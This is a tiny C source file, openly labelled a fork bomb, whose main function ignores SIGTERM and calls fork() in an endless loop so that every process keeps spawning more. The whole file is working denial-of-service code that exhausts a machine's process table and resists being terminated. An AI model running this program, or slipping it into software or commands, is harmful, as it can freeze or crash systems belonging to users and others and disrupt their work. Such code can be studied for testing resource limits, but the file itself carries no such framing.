/*
 * A fork bomb: every process makes more for ever, and those that may not go on trying. SIGTERM
 * is ignored.
 */
#include <signal.h>
#include <unistd.h>

int main(void)
{
	(void)signal(SIGTERM, SIG_IGN);
	for (;;)
		(void)fork();
}
